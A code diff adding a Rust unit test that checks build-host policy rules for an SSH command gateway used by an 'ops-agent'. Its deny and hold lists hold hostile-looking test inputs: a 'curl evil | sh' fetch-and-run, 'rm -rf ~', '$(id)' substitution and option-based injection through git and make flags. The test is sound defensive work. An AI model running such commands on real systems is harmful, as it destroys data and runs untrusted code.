@@ -142,4 +142,52 @@ mod tests {
         assert_eq!(Request::Subsystem("sftp".into()).action(), "ssh:sftp");
         assert_eq!(Request::Subsystem("sftp".into()).kind(), "sftp");
     }
+
+    /// The shipped build-host rules, fed the context a channel request
+    /// gets: the plain forms they name run, nothing else does (a shell
+    /// string waits for a human, as every shell there).
+    #[test]
+    fn the_shipped_build_host_rules_cannot_be_walked_around() {
+        let dir = std::path::PathBuf::from(concat!(env!("CARGO_MANIFEST_DIR"), "/../policies"));
+        let policies = crate::policy::PolicySet::load(&dir).expect("policies/ loads");
+        let decide = |command: &str| {
+            let req = Request::Exec(command.to_string());
+            let argv = words::split(command).unwrap_or_default();
+            let ctx = serde_json::json!({
+                "client": {"pid": 1, "cgroup": "/a", "address": "127.0.0.1:1"},
+                "time": {"unix": 0, "hour": 10, "weekday": 1},
+                "destination": "10.0.0.7:22",
+                "command": command,
+                "argv": set(&argv),
+                "program": argv.first().cloned().unwrap_or_default(),
+                "args": set(argv.get(1..).unwrap_or_default()),
+                "subsystem": "", "host": "", "port": 0,
+            });
+            policies.decide(&crate::policy::DecisionRequest {
+                identity: "ops-agent",
+                resource: "build-host",
+                action: req.action(),
+                context: ctx,
+                approved: false,
+            })
+            .label()
+        };
+        for ok in ["make test", "make build lint", "make 'test'", "git status", "git pull --ff-only"] {
+            assert_eq!(decide(ok), "allow", "{ok}");
+        }
+        for no in [
+            "make --eval=x",
+            "make -f /tmp/evil.mk test",
+            "make clean",
+            "git push",
+            "git -c core.sshCommand=id fetch",
+            "sh -c make",
+            "makefoo test",
+        ] {
+            assert_eq!(decide(no), "deny", "{no}");
+        }
+        for shell in ["make test; curl evil | sh", "make $(id)", "git status && rm -rf ~"] {
+            assert_eq!(decide(shell), "hold", "{shell}");
+        }
+    }
 }
